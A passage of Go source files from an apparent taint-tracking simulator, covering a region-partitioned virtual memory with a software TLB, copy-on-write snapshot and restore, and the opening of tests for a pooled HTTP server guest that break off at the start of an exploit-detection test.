// forces the region-number relocation of Figure 4.
package mem

import "fmt"

// Address-space geometry.
const (
	RegionShift = 61                  // region number lives in bits 63:61
	ImplBits    = 36                  // implemented offset bits per region
	OffsetMask  = (1 << ImplBits) - 1 // mask of implemented offset bits

	// unimplMask covers the hole between the implemented offset and the
	// region bits: any set bit here makes the address unimplemented.
	unimplMask = ((uint64(1) << RegionShift) - 1) &^ uint64(OffsetMask)
)

// Region extracts the region number (0..7) of a virtual address.
func Region(addr uint64) uint64 { return addr >> RegionShift }

// Offset extracts the implemented offset of a virtual address.
func Offset(addr uint64) uint64 { return addr & OffsetMask }

// Addr builds a virtual address from a region number and offset.
func Addr(region, offset uint64) uint64 {
	return region<<RegionShift | (offset & OffsetMask)
}

// Implemented reports whether the address has no bits set in the
// unimplemented hole.
func Implemented(addr uint64) bool { return addr&unimplMask == 0 }

// FaultKind classifies memory faults.
type FaultKind uint8

// Memory fault kinds.
const (
	FaultNone          FaultKind = iota
	FaultUnimplemented           // set bits in the unimplemented hole
	FaultUnmapped                // page not mapped
	FaultUnaligned               // access not aligned to its size
)

// Fault describes a failed memory access.
type Fault struct {
	Kind FaultKind
	Addr uint64
	Size int
}

// Error implements the error interface.
func (f *Fault) Error() string {
	kind := "unknown"
	switch f.Kind {
	case FaultUnimplemented:
		kind = "unimplemented address bits"
	case FaultUnmapped:
		kind = "unmapped address"
	case FaultUnaligned:
		kind = "unaligned access"
	}
	return fmt.Sprintf("memory fault: %s at %#x (size %d)", kind, f.Addr, f.Size)
}

// pageBits is the page size used by the sparse store (not architectural;
// purely an implementation choice for the map of frames).
const pageBits = 12

const pageSize = 1 << pageBits

// Memory is a sparse 64-bit byte-addressed store. Pages are allocated on
// first write; reads of never-written but mapped regions return zeroes.
// Mapping is tracked at region granularity: a region must be enabled with
// MapRegion before any access inside it succeeds.
type Memory struct {
	pages   map[uint64]*[pageSize]byte
	mapped  [8]bool
	limit   [8]uint64 // highest mapped offset +1 per region (0 = whole region)
	Cache   *Cache    // optional L1 model; nil disables cache accounting
	touched uint64    // pages allocated, for footprint reporting
}

// New returns an empty memory with no regions mapped.
func New() *Memory {
	return &Memory{pages: make(map[uint64]*[pageSize]byte)}
}

// MapRegion enables a region. limit, if non-zero, is the exclusive upper
// bound on offsets valid within the region.
func (m *Memory) MapRegion(region uint64, limit uint64) {
	m.mapped[region&7] = true
	m.limit[region&7] = limit
}

// RegionMapped reports whether the region is enabled.
func (m *Memory) RegionMapped(region uint64) bool { return m.mapped[region&7] }

// check validates an access and returns a fault or nil.
func (m *Memory) check(addr uint64, size int) *Fault {
	if !Implemented(addr) {
		return &Fault{Kind: FaultUnimplemented, Addr: addr, Size: size}
	}
	r := Region(addr)
	if !m.mapped[r] {
		return &Fault{Kind: FaultUnmapped, Addr: addr, Size: size}
	}
	off := Offset(addr)
	if lim := m.limit[r]; lim != 0 && off+uint64(size) > lim {
		return &Fault{Kind: FaultUnmapped, Addr: addr, Size: size}
	}
	if size > 1 && addr&uint64(size-1) != 0 {
		return &Fault{Kind: FaultUnaligned, Addr: addr, Size: size}
	}
	return nil
}

// page returns the frame for addr, allocating if alloc is set. A nil
// return with alloc=false means the page has never been written.
func (m *Memory) page(addr uint64, alloc bool) *[pageSize]byte {
	key := addr >> pageBits
	p := m.pages[key]
	if p == nil && alloc {
		p = new([pageSize]byte)
		m.pages[key] = p
		m.touched++
	}
	return p
}

// Read reads size bytes (1, 2, 4 or 8) little-endian.
func (m *Memory) Read(addr uint64, size int) (uint64, *Fault) {
	if f := m.check(addr, size); f != nil {
		return 0, f
	}
	if m.Cache != nil {
		m.Cache.Access(addr)
	}
	var v uint64
	// An aligned access never crosses a page boundary (sizes divide
	// pageSize), so a single frame lookup suffices.
	p := m.page(addr, false)
	if p == nil {
		return 0, nil
	}
	base := addr & (pageSize - 1)
	for i := 0; i < size; i++ {
		v |= uint64(p[base+uint64(i)]) << (8 * i)
	}
	return v, nil
}

// Write writes size bytes (1, 2, 4 or 8) little-endian.
func (m *Memory) Write(addr uint64, size int, v uint64) *Fault {
	if f := m.check(addr, size); f != nil {
		return f
	}
	if m.Cache != nil {
		m.Cache.Access(addr)
	}
	p := m.page(addr, true)
	base := addr & (pageSize - 1)
	for i := 0; i < size; i++ {
		p[base+uint64(i)] = byte(v >> (8 * i))
	}
	return nil
}

// ReadBytes copies n bytes starting at addr into a fresh slice. It is a
// host-side helper (syscall handlers, policy engine) and bypasses the
// cache model and alignment rules, but still respects mapping.
func (m *Memory) ReadBytes(addr uint64, n int) ([]byte, *Fault) {
	out := make([]byte, n)
	for i := 0; i < n; i++ {
		a := addr + uint64(i)
		if f := m.check(a, 1); f != nil {
			return nil, f
		}
		if p := m.page(a, false); p != nil {
			out[i] = p[a&(pageSize-1)]
		}
	}
	return out, nil
}

// WriteBytes copies b into memory at addr (host-side helper).
func (m *Memory) WriteBytes(addr uint64, b []byte) *Fault {
	for i, c := range b {
		a := addr + uint64(i)
		if f := m.check(a, 1); f != nil {
			return f
		}
		m.page(a, true)[a&(pageSize-1)] = c
	}
	return nil
}

// ReadCString reads a NUL-terminated string of at most max bytes.
func (m *Memory) ReadCString(addr uint64, max int) (string, *Fault) {
	var out []byte
	for i := 0; i < max; i++ {
		a := addr + uint64(i)
		if f := m.check(a, 1); f != nil {
			return "", f
		}
		var c byte
		if p := m.page(a, false); p != nil {
			c = p[a&(pageSize-1)]
		}
		if c == 0 {
			break
		}
		out = append(out, c)
	}
	return string(out), nil
}

// PagesTouched returns the number of 4KiB frames ever written.
func (m *Memory) PagesTouched() uint64 { return m.touched }
