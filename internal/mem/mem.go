// Package mem implements the simulated machine's virtual memory: the
// Itanium-style region-partitioned 64-bit address space with unimplemented
// bits (paper §4.1, Figure 4), a sparse paged byte store, and a small L1
// cache model used by the cost accounting.
//
// The top three bits of an address select one of eight regions. Only
// ImplBits low bits of the region offset are implemented; any address with
// a set bit in the unimplemented hole faults, exactly the property that
// prevents SHIFT from deriving a tag address with a single shift and
// forces the region-number relocation of Figure 4.
package mem

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"sync"
)

// Address-space geometry.
const (
	RegionShift = 61                  // region number lives in bits 63:61
	ImplBits    = 36                  // implemented offset bits per region
	OffsetMask  = (1 << ImplBits) - 1 // mask of implemented offset bits

	// unimplMask covers the hole between the implemented offset and the
	// region bits: any set bit here makes the address unimplemented.
	unimplMask = ((uint64(1) << RegionShift) - 1) &^ uint64(OffsetMask)
)

// Region extracts the region number (0..7) of a virtual address.
func Region(addr uint64) uint64 { return addr >> RegionShift }

// Offset extracts the implemented offset of a virtual address.
func Offset(addr uint64) uint64 { return addr & OffsetMask }

// Addr builds a virtual address from a region number and offset.
func Addr(region, offset uint64) uint64 {
	return region<<RegionShift | (offset & OffsetMask)
}

// Implemented reports whether the address has no bits set in the
// unimplemented hole.
func Implemented(addr uint64) bool { return addr&unimplMask == 0 }

// FaultKind classifies memory faults.
type FaultKind uint8

// Memory fault kinds.
const (
	FaultNone          FaultKind = iota
	FaultUnimplemented           // set bits in the unimplemented hole
	FaultUnmapped                // page not mapped
	FaultUnaligned               // access not aligned to its size
	FaultBadSize                 // access size outside {1, 2, 4, 8}
)

// Fault describes a failed memory access.
type Fault struct {
	Kind FaultKind
	Addr uint64
	Size int
}

// Error implements the error interface.
func (f *Fault) Error() string {
	kind := "unknown"
	switch f.Kind {
	case FaultUnimplemented:
		kind = "unimplemented address bits"
	case FaultUnmapped:
		kind = "unmapped address"
	case FaultUnaligned:
		kind = "unaligned access"
	case FaultBadSize:
		kind = "invalid access size"
	}
	return fmt.Sprintf("memory fault: %s at %#x (size %d)", kind, f.Addr, f.Size)
}

// pageBits is the page size used by the sparse store (not architectural;
// purely an implementation choice for the map of frames).
const pageBits = 12

const pageSize = 1 << pageBits

// tlbBits sizes the software TLB: a direct-mapped cache of page-key →
// frame-pointer translations consulted before the pages map. Frames are
// never deallocated, so entries stay valid for the life of the Memory and
// no invalidation protocol is needed.
const tlbBits = 8

const tlbSize = 1 << tlbBits

// tlbEntry caches one page translation; frame == nil marks an empty slot.
type tlbEntry struct {
	key   uint64
	frame *[pageSize]byte
}

// Memory is a sparse 64-bit byte-addressed store. Pages are allocated on
// first write; reads of never-written but mapped regions return zeroes.
// Mapping is tracked at region granularity: a region must be enabled with
// MapRegion before any access inside it succeeds.
type Memory struct {
	pages  map[uint64]*[pageSize]byte
	tlb    [tlbSize]tlbEntry
	mapped [8]bool
	limit  [8]uint64 // highest mapped offset +1 per region (0 = whole region)
	// bound folds the mapped and limit checks into one comparison per
	// region: 0 for an unmapped region, otherwise the exclusive offset
	// bound (the limit, or the full implemented range when limit is 0).
	bound   [8]uint64
	Cache   *Cache // optional L1 model; nil disables cache accounting
	touched uint64 // pages allocated, for footprint reporting

	// base, when non-nil, is a read-only copy-on-write layer under the
	// private page table (see snapshot.go): reads of a page absent from
	// pages serve from base directly, and the first write copies the
	// frame up. Base frames are shared across memories and never
	// mutated, so the TLB must never cache one — only private frames
	// enter it. baseKeys is the snapshot's per-region key index.
	base     map[uint64]*[pageSize]byte
	baseKeys [8][]uint64

	// Dirty-page tracking for Restore (see snapshot.go). track gates
	// the bookkeeping so untracked memories pay one branch per write;
	// lastDirty is a one-entry cache absorbing consecutive writes to
	// one page.
	track     bool
	dirty     map[uint64]struct{}
	lastDirty uint64

	// regionKeys indexes private page keys by region, appended once at
	// allocation, so region-scoped sweeps (ZeroRegionPages — the taint
	// space's O(tagged-bytes) Clear) never walk the whole page table.
	regionKeys [8][]uint64

	// Software-TLB accounting. Plain (non-atomic) counters: frame runs on
	// the simulator's hottest path, and the single-goroutine scheduler is
	// the only writer; readers (metrics exposition) sample after or
	// between runs.
	tlbHits   uint64
	tlbMisses uint64

	// shmu guards pages and touched for the Shared* accessors, which
	// bypass the software TLB (the TLB is mutated even by plain reads,
	// so it can never be consulted concurrently). The plain accessors do
	// NOT take it: their guarantees between each other are unchanged, and
	// mixing plain and Shared* access to one Memory from different
	// goroutines remains the caller's synchronization problem.
	shmu sync.RWMutex
}

// New returns an empty memory with no regions mapped.
func New() *Memory {
	return &Memory{pages: make(map[uint64]*[pageSize]byte)}
}

// MapRegion enables a region. limit, if non-zero, is the exclusive upper
// bound on offsets valid within the region.
func (m *Memory) MapRegion(region uint64, limit uint64) {
	r := region & 7
	m.mapped[r] = true
	m.limit[r] = limit
	if limit == 0 {
		m.bound[r] = 1 << ImplBits
	} else {
		m.bound[r] = limit
	}
}

// RegionMapped reports whether the region is enabled.
func (m *Memory) RegionMapped(region uint64) bool { return m.mapped[region&7] }

// TLBStats returns the software TLB's hit and miss counts. Sample it
// between runs: the counters are unsynchronized with in-flight accesses.
func (m *Memory) TLBStats() (hits, misses uint64) { return m.tlbHits, m.tlbMisses }

// check validates an access and returns a fault or nil. It is the
// classifying slow path; the hot paths use ok/rangeOK and only come here
// to name the fault (or to confirm an access the conservative fast check
// rejected, e.g. a size-1 access right at a region's limit).
func (m *Memory) check(addr uint64, size int) *Fault {
	// Only the architectural sizes exist. Anything else (a size 3, 5, 6
	// or 7) would make addr&(size-1) a meaningless alignment mask and
	// could let an "aligned" access cross a page frame.
	if size != 1 && size != 2 && size != 4 && size != 8 {
		return &Fault{Kind: FaultBadSize, Addr: addr, Size: size}
	}
	if !Implemented(addr) {
		return &Fault{Kind: FaultUnimplemented, Addr: addr, Size: size}
	}
	r := Region(addr)
	if !m.mapped[r] {
		return &Fault{Kind: FaultUnmapped, Addr: addr, Size: size}
	}
	off := Offset(addr)
	// The subtraction form is overflow-safe: off+size could wrap for a
	// pathological size where the naive off+size > lim test would pass.
	if lim := m.limit[r]; lim != 0 && (off >= lim || uint64(size) > lim-off) {
		return &Fault{Kind: FaultUnmapped, Addr: addr, Size: size}
	}
	if size > 1 && addr&uint64(size-1) != 0 {
		return &Fault{Kind: FaultUnaligned, Addr: addr, Size: size}
	}
	return nil
}

// ok reports whether an aligned access is definitely valid: implemented
// bits clear, region mapped, within the precomputed bound, and aligned.
// A false return is conservative — the caller re-validates with check to
// classify (or rule out) the fault.
func (m *Memory) ok(addr uint64, size int) bool {
	off := addr & OffsetMask
	b := m.bound[addr>>RegionShift]
	return addr&unimplMask == 0 &&
		off < b && uint64(size) <= b-off &&
		(size == 1 || size == 2 || size == 4 || size == 8) &&
		addr&uint64(size-1) == 0
}

// rangeOK reports whether every byte of [addr, addr+n) is accessible
// (no alignment rule). False is conservative, as for ok.
func (m *Memory) rangeOK(addr uint64, n int) bool {
	off := addr & OffsetMask
	b := m.bound[addr>>RegionShift]
	return addr&unimplMask == 0 && off < b && uint64(n) <= b-off
}

// frame returns the frame for addr, allocating if alloc is set, going
// through the software TLB before the pages map. A nil return with
// alloc=false means the page has never been written.
func (m *Memory) frame(addr uint64, alloc bool) *[pageSize]byte {
	key := addr >> pageBits
	e := &m.tlb[key&(tlbSize-1)]
	if e.frame != nil && e.key == key {
		m.tlbHits++
		return e.frame
	}
	m.tlbMisses++
	p := m.pages[key]
	if p == nil {
		if b := m.base[key]; b != nil {
			if !alloc {
				// Serve the shared base frame directly — but never cache
				// it in the TLB, or a later write hitting the cached
				// entry would mutate the shared snapshot.
				return b
			}
			p = new([pageSize]byte)
			*p = *b
		} else if alloc {
			p = new([pageSize]byte)
		} else {
			return nil
		}
		m.addPage(key, p)
	}
	e.key, e.frame = key, p
	return p
}

// addPage installs a freshly allocated private frame and indexes it.
func (m *Memory) addPage(key uint64, p *[pageSize]byte) {
	m.pages[key] = p
	m.touched++
	r := pageRegion(key) & 7
	m.regionKeys[r] = append(m.regionKeys[r], key)
}

// Read reads size bytes (1, 2, 4 or 8) little-endian.
func (m *Memory) Read(addr uint64, size int) (uint64, *Fault) {
	v, _, f := m.ReadMiss(addr, size)
	return v, f
}

// ReadMiss is Read plus whether the access missed in the L1 model (always
// false when no cache is attached). The simulator's load path uses it to
// charge the miss penalty without probing the cache counters twice.
func (m *Memory) ReadMiss(addr uint64, size int) (uint64, bool, *Fault) {
	if !m.ok(addr, size) {
		if f := m.check(addr, size); f != nil {
			return 0, false, f
		}
	}
	missed := false
	if m.Cache != nil {
		missed = !m.Cache.Access(addr)
	}
	// An aligned access never crosses a page boundary (sizes divide
	// pageSize), so a single frame lookup suffices.
	p := m.frame(addr, false)
	if p == nil {
		return 0, missed, nil
	}
	base := addr & (pageSize - 1)
	switch size {
	case 8:
		return binary.LittleEndian.Uint64(p[base : base+8]), missed, nil
	case 4:
		return uint64(binary.LittleEndian.Uint32(p[base : base+4])), missed, nil
	case 2:
		return uint64(binary.LittleEndian.Uint16(p[base : base+2])), missed, nil
	default: // size 1; every other size was rejected above
		return uint64(p[base]), missed, nil
	}
}

// Write writes size bytes (1, 2, 4 or 8) little-endian.
func (m *Memory) Write(addr uint64, size int, v uint64) *Fault {
	if !m.ok(addr, size) {
		if f := m.check(addr, size); f != nil {
			return f
		}
	}
	if m.Cache != nil {
		m.Cache.Access(addr)
	}
	if m.track {
		m.markDirty(addr >> pageBits)
	}
	p := m.frame(addr, true)
	base := addr & (pageSize - 1)
	switch size {
	case 8:
		binary.LittleEndian.PutUint64(p[base:base+8], v)
	case 4:
		binary.LittleEndian.PutUint32(p[base:base+4], uint32(v))
	case 2:
		binary.LittleEndian.PutUint16(p[base:base+2], uint16(v))
	default: // size 1; every other size was rejected above
		p[base] = byte(v)
	}
	return nil
}

// CheckAccess validates an access exactly as the load/store paths do —
// same fault classification, same precedence — without touching memory or
// the cache model. The lockstep oracle uses it to recompute a speculative
// load's defer decision independently of the machine.
func (m *Memory) CheckAccess(addr uint64, size int) *Fault {
	if m.ok(addr, size) {
		return nil
	}
	return m.check(addr, size)
}

// Peek reads one byte without consulting or updating the cache model, so
// observers (the lockstep oracle's bitmap cross-checks) cannot perturb
// the cycle accounting. Mapping and implemented-bits rules still apply.
func (m *Memory) Peek(addr uint64) (byte, *Fault) {
	if !m.rangeOK(addr, 1) {
		if f := m.check(addr, 1); f != nil {
			return 0, f
		}
	}
	p := m.frame(addr, false)
	if p == nil {
		return 0, nil
	}
	return p[addr&(pageSize-1)], nil
}

// ReadBytes copies n bytes starting at addr into a fresh slice. It is a
// host-side helper (syscall handlers, policy engine) and bypasses the
// cache model and alignment rules, but still respects mapping. The whole
// range is validated up front and copied per frame; the byte-wise slow
// path only runs when some byte of the range is inaccessible, preserving
// the exact per-byte fault.
func (m *Memory) ReadBytes(addr uint64, n int) ([]byte, *Fault) {
	out := make([]byte, n)
	if m.rangeOK(addr, n) {
		dst := out
		for len(dst) > 0 {
			base := int(addr & (pageSize - 1))
			chunk := pageSize - base
			if chunk > len(dst) {
				chunk = len(dst)
			}
			if p := m.frame(addr, false); p != nil {
				copy(dst, p[base:base+chunk])
			}
			dst = dst[chunk:]
			addr += uint64(chunk)
		}
		return out, nil
	}
	for i := 0; i < n; i++ {
		a := addr + uint64(i)
		if f := m.check(a, 1); f != nil {
			return nil, f
		}
		if p := m.frame(a, false); p != nil {
			out[i] = p[a&(pageSize-1)]
		}
	}
	return out, nil
}

// WriteBytes copies b into memory at addr (host-side helper). When some
// byte of the range is inaccessible it falls back to the byte-wise path,
// keeping the historical partial-write-then-fault semantics.
func (m *Memory) WriteBytes(addr uint64, b []byte) *Fault {
	if m.rangeOK(addr, len(b)) {
		for len(b) > 0 {
			base := int(addr & (pageSize - 1))
			chunk := pageSize - base
			if chunk > len(b) {
				chunk = len(b)
			}
			if m.track {
				m.markDirty(addr >> pageBits)
			}
			copy(m.frame(addr, true)[base:base+chunk], b[:chunk])
			b = b[chunk:]
			addr += uint64(chunk)
		}
		return nil
	}
	for i, c := range b {
		a := addr + uint64(i)
		if f := m.check(a, 1); f != nil {
			return f
		}
		if m.track {
			m.markDirty(a >> pageBits)
		}
		m.frame(a, true)[a&(pageSize-1)] = c
	}
	return nil
}

// ReadCString reads a NUL-terminated string of at most max bytes. It
// scans frame by frame with a bulk NUL search; the byte-wise tail only
// runs when validation fails mid-range, so a string ending before an
// inaccessible byte still reads cleanly (as it always did).
func (m *Memory) ReadCString(addr uint64, max int) (string, *Fault) {
	var out []byte
	i := 0
	for i < max {
		a := addr + uint64(i)
		base := int(a & (pageSize - 1))
		chunk := pageSize - base
		if rem := max - i; chunk > rem {
			chunk = rem
		}
		if !m.rangeOK(a, chunk) {
			for ; i < max; i++ {
				a := addr + uint64(i)
				if f := m.check(a, 1); f != nil {
					return "", f
				}
				var c byte
				if p := m.frame(a, false); p != nil {
					c = p[a&(pageSize-1)]
				}
				if c == 0 {
					return string(out), nil
				}
				out = append(out, c)
			}
			return string(out), nil
		}
		p := m.frame(a, false)
		if p == nil {
			// A never-written frame reads as zeroes: immediate NUL.
			return string(out), nil
		}
		seg := p[base : base+chunk]
		if j := bytes.IndexByte(seg, 0); j >= 0 {
			return string(append(out, seg[:j]...)), nil
		}
		out = append(out, seg...)
		i += chunk
	}
	return string(out), nil
}

// SharedPeek1 reads one byte like Peek but safely from concurrent
// goroutines: it bypasses both the cache model and the software TLB and
// takes an internal read lock on the page table. Byte-level atomicity
// between racing writers is NOT provided here — callers that need a
// consistent read-modify-write serialize on their own locks (the taint
// package's shared tag space shards on bitmap words).
func (m *Memory) SharedPeek1(addr uint64) (byte, *Fault) {
	if !m.rangeOK(addr, 1) {
		if f := m.check(addr, 1); f != nil {
			return 0, f
		}
	}
	key := addr >> pageBits
	m.shmu.RLock()
	p := m.pages[key]
	m.shmu.RUnlock()
	if p == nil {
		if b := m.base[key]; b != nil {
			return b[addr&(pageSize-1)], nil
		}
		return 0, nil
	}
	return p[addr&(pageSize-1)], nil
}

// SharedWrite1 writes one byte, safe against concurrent SharedPeek1 /
// SharedWrite1 calls to other bytes: frame allocation is serialized on
// the page-table lock, and the TLB and cache model are bypassed. Two
// goroutines writing the same byte still need external ordering.
func (m *Memory) SharedWrite1(addr uint64, v byte) *Fault {
	if !m.rangeOK(addr, 1) {
		if f := m.check(addr, 1); f != nil {
			return f
		}
	}
	key := addr >> pageBits
	m.shmu.RLock()
	p := m.pages[key]
	m.shmu.RUnlock()
	if p == nil {
		m.shmu.Lock()
		if p = m.pages[key]; p == nil {
			p = new([pageSize]byte)
			if b := m.base[key]; b != nil {
				*p = *b
			}
			m.addPage(key, p)
		}
		m.shmu.Unlock()
	}
	if m.track {
		m.markDirtyShared(key)
	}
	p[addr&(pageSize-1)] = v
	return nil
}

// PagesTouched returns the number of 4KiB frames ever written.
func (m *Memory) PagesTouched() uint64 { return m.touched }
