// Snapshot/restore: the machinery that lets one loaded program image
// serve thousands of sequential (and, across pool guests, concurrent)
// runs without re-loading — the unlock for the pooled-guest server
// (cmd/shiftd) and for fuzzing throughput.
//
// A Snapshot is an immutable copy of a memory's resident pages plus its
// region configuration, taken once per program text right after load.
// Guests share it two ways:
//
//   - NewFromSnapshot builds a fresh Memory whose page table starts
//     empty over the snapshot's frames as a read-only base layer. Reads
//     of a base page serve from the shared frame directly; the first
//     write copies the frame up into the guest's private page table
//     (copy-on-write at 4 KiB granularity). The software TLB only ever
//     caches private frames, so a cached translation can never leak a
//     write into the shared base.
//
//   - Restore rewinds a dirty-tracked Memory to its snapshot in
//     O(dirty pages): every write since the last restore marks its page
//     in a dirty set, and restore copies each dirty page's content back
//     from the base (or zeroes it, when the page did not exist at
//     snapshot time) in place. Frames are never deallocated, so the TLB
//     stays coherent across restores with no invalidation protocol.
package mem

import "sort"

// Snapshot is an immutable image of a memory's state: resident page
// contents and region configuration. Build one with Memory.Snapshot and
// share it freely across goroutines — nothing mutates it after capture.
type Snapshot struct {
	frames map[uint64]*[pageSize]byte
	// keysByRegion buckets the frame keys, so region-scoped sweeps over
	// the base layer (ZeroRegionPages) cost O(that region's pages).
	keysByRegion [8][]uint64
	mapped       [8]bool
	limit        [8]uint64
	bound        [8]uint64
	touched      uint64
}

// Pages returns the number of resident pages the snapshot captured.
func (s *Snapshot) Pages() int { return len(s.frames) }

// Snapshot captures the memory's current state. Page contents are
// deep-copied, so later writes through the source memory do not alter
// the snapshot. Pages inherited from this memory's own base layer (if
// it was built by NewFromSnapshot) are included by reference — they are
// immutable already.
func (m *Memory) Snapshot() *Snapshot {
	s := &Snapshot{
		frames:  make(map[uint64]*[pageSize]byte, len(m.pages)+len(m.base)),
		mapped:  m.mapped,
		limit:   m.limit,
		bound:   m.bound,
		touched: m.touched,
	}
	for key, p := range m.base {
		s.frames[key] = p
	}
	for key, p := range m.pages {
		cp := new([pageSize]byte)
		*cp = *p
		s.frames[key] = cp
	}
	for key := range s.frames {
		r := pageRegion(key) & 7
		s.keysByRegion[r] = append(s.keysByRegion[r], key)
	}
	return s
}

// NewFromSnapshot builds a fresh Memory over the snapshot: region
// configuration restored, the snapshot's frames installed as a shared
// read-only base layer, and dirty-page tracking enabled so Restore runs
// in O(pages written). The caller attaches its own Cache if the cycle
// model needs one.
func NewFromSnapshot(s *Snapshot) *Memory {
	m := New()
	m.mapped = s.mapped
	m.limit = s.limit
	m.bound = s.bound
	m.base = s.frames
	m.baseKeys = s.keysByRegion
	m.EnableDirtyTracking()
	return m
}

// EnableDirtyTracking starts recording which pages are written, the
// prerequisite for Restore. Idempotent; the dirty set starts empty.
func (m *Memory) EnableDirtyTracking() {
	if m.dirty == nil {
		m.dirty = make(map[uint64]struct{})
	}
	m.track = true
	m.lastDirty = ^uint64(0)
}

// DirtyPages returns the number of pages written since the last Restore
// (or since EnableDirtyTracking).
func (m *Memory) DirtyPages() int { return len(m.dirty) }

// markDirty records a page write. The one-entry key cache absorbs the
// common case of consecutive writes landing on one page, keeping the
// map insert off the hot store path.
func (m *Memory) markDirty(key uint64) {
	if key == m.lastDirty {
		return
	}
	m.lastDirty = key
	m.dirty[key] = struct{}{}
}

// markDirtyShared is markDirty behind the page-table lock, for the
// Shared* accessors (which may run from several goroutines).
func (m *Memory) markDirtyShared(key uint64) {
	m.shmu.Lock()
	if _, ok := m.dirty[key]; !ok {
		m.dirty[key] = struct{}{}
	}
	m.shmu.Unlock()
}

// Restore rewinds every page written since the last restore to its
// snapshot content: pages present in the snapshot are copied back,
// pages born after it are zeroed. Contents are restored in place —
// frames are never deallocated — so software-TLB entries stay valid.
// Region configuration is restored and the cache model (if any) is
// cleared, which matches the snapshot exactly when it was captured
// before first execution (the pool's usage). It returns the number of
// pages restored; requires EnableDirtyTracking (NewFromSnapshot enables
// it). The snapshot must describe this memory's load state — normally
// the one the memory was built from.
func (m *Memory) Restore(s *Snapshot) int {
	n := 0
	for key := range m.dirty {
		p := m.pages[key]
		if p == nil {
			// Dirtied via the base-layer copy-up path but since removed?
			// Cannot happen — pages are never deallocated — but a dirty
			// key with no private frame has nothing to restore.
			continue
		}
		if b := s.frames[key]; b != nil {
			*p = *b
		} else {
			clear(p[:])
		}
		n++
		delete(m.dirty, key)
	}
	m.lastDirty = ^uint64(0)
	m.mapped = s.mapped
	m.limit = s.limit
	m.bound = s.bound
	if m.Cache != nil {
		m.Cache.Reset()
	}
	return n
}

// pageRegion returns the region number a page key belongs to.
func pageRegion(key uint64) uint64 { return key >> (RegionShift - pageBits) }

// RegionDigest returns an FNV-1a digest of the region's nonzero
// resident pages (key then content, keys ascending). All-zero and
// absent pages hash identically, so two memories with different
// COW/private page layouts but equal contents digest equal — the
// property the differential reuse suite needs to compare tag bitmaps
// between a recycled guest and a fresh machine.
func (m *Memory) RegionDigest(region uint64) uint64 {
	keys := make([]uint64, 0, len(m.regionKeys[region&7])+len(m.baseKeys[region&7]))
	keys = append(keys, m.regionKeys[region&7]...)
	for _, key := range m.baseKeys[region&7] {
		if m.pages[key] == nil {
			keys = append(keys, key)
		}
	}
	sort.Slice(keys, func(i, j int) bool { return keys[i] < keys[j] })
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	h := uint64(offset64)
	for _, key := range keys {
		p := m.pages[key]
		if p == nil {
			p = m.base[key]
		}
		if *p == ([pageSize]byte{}) {
			continue
		}
		for shift := 0; shift < 64; shift += 8 {
			h = (h ^ (key >> shift & 0xff)) * prime64
		}
		for _, b := range p {
			h = (h ^ uint64(b)) * prime64
		}
	}
	return h
}

// ZeroRegionPages zeroes every resident page of the region and returns
// how many pages held a nonzero byte. Cost is proportional to the
// region's resident footprint — pages are found through the per-region
// allocation index, never by walking the whole page table — so for
// region 0 (the tag space) a clear is O(tagged bytes / 8) rounded up to
// pages, not O(total memory). Base pages (shared, immutable) are
// shadowed with a private zero page only when they contain a nonzero
// byte, preserving copy-on-write sharing; they are found through the
// snapshot's own per-region index.
func (m *Memory) ZeroRegionPages(region uint64) int {
	n := 0
	for _, key := range m.regionKeys[region&7] {
		p := m.pages[key]
		if *p == ([pageSize]byte{}) {
			continue
		}
		clear(p[:])
		n++
		if m.track {
			m.markDirty(key)
		}
	}
	for _, key := range m.baseKeys[region&7] {
		if m.pages[key] != nil {
			continue // already swept via the private index above
		}
		if *m.base[key] == ([pageSize]byte{}) {
			continue
		}
		m.addPage(key, new([pageSize]byte))
		n++
		if m.track {
			m.markDirty(key)
		}
	}
	return n
}
