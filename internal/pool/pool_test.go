package pool

import (
	"bytes"
	"sync"
	"testing"

	"shift/internal/isa"
	"shift/internal/shift"
	"shift/internal/workload"
)

// buildHTTPD compiles the instrumented Figure-6 request server once per
// test binary.
var buildHTTPD = sync.OnceValues(func() (*isa.Program, error) {
	return shift.Build([]shift.Source{{Name: "httpd.mc", Text: workload.HTTPDSource}}, httpdOptions())
})

func httpdOptions() shift.Options {
	return shift.Options{Instrument: true, Policy: workload.HTTPDConfig()}
}

// docFiles is the document root every request world carries.
func docFiles() map[string][]byte {
	return map[string][]byte{"/www/htdocs/index.html": []byte("<html>hello</html>")}
}

// requestWorld builds a one-request world: a single 64-byte GET record.
func requestWorld(name string) *shift.World {
	w := shift.NewWorld()
	w.Files = docFiles()
	rec := make([]byte, workload.HTTPDRequestSize)
	copy(rec, "GET "+name)
	w.NetIn = rec
	return w
}

func newHTTPDPool(t *testing.T, size int) *Pool {
	t.Helper()
	prog, err := buildHTTPD()
	if err != nil {
		t.Fatal(err)
	}
	p, err := New(prog, size, httpdOptions())
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// A recycled guest must serve every request exactly as a fresh machine
// would: same bytes out, same cycle count, run after run.
func TestPoolServesRepeatedRequests(t *testing.T) {
	p := newHTTPDPool(t, 1)
	prog, _ := buildHTTPD()

	ref, err := shift.Run(prog, requestWorld("index.html"), httpdOptions())
	if err != nil {
		t.Fatal(err)
	}
	if ref.Alert != nil || ref.Trap != nil {
		t.Fatalf("reference run failed: alert=%v trap=%v", ref.Alert, ref.Trap)
	}
	want := append([]byte(nil), ref.World.NetOut...)
	if !bytes.Contains(want, []byte("hello")) {
		t.Fatalf("reference served %q, want file content", want)
	}

	for i := 0; i < 5; i++ {
		res, err := p.Run(requestWorld("index.html"))
		if err != nil {
			t.Fatalf("run %d: %v", i, err)
		}
		if res.Alert != nil || res.Trap != nil {
			t.Fatalf("run %d: alert=%v trap=%v", i, res.Alert, res.Trap)
		}
		if !bytes.Equal(res.World.NetOut, want) {
			t.Fatalf("run %d: NetOut = %q, want %q", i, res.World.NetOut, want)
		}
		if res.Cycles != ref.Cycles {
			t.Fatalf("run %d: cycles %d, fresh machine %d — reuse is not transparent", i, res.Cycles, ref.Cycles)
		}
	}
	st := p.Stats()
	if st.Requests != 5 || st.Recycles != 5 {
		t.Fatalf("stats = %+v, want 5 requests / 5 recycles", st)
	}
	if st.RestoredPages == 0 {
		t.Fatal("recycles restored no pages; dirty tracking is not wired")
	}
}

// A traversal exploit must be detected on a recycled guest, and the
// guest must come back clean: the next benign request sees no stale
// taint and no stale alert state.
func TestPoolDetectsExploitAndRecovers(t *testing.T) {
	p := newHTTPDPool(t, 1)

	for round := 0; round < 2; round++ {
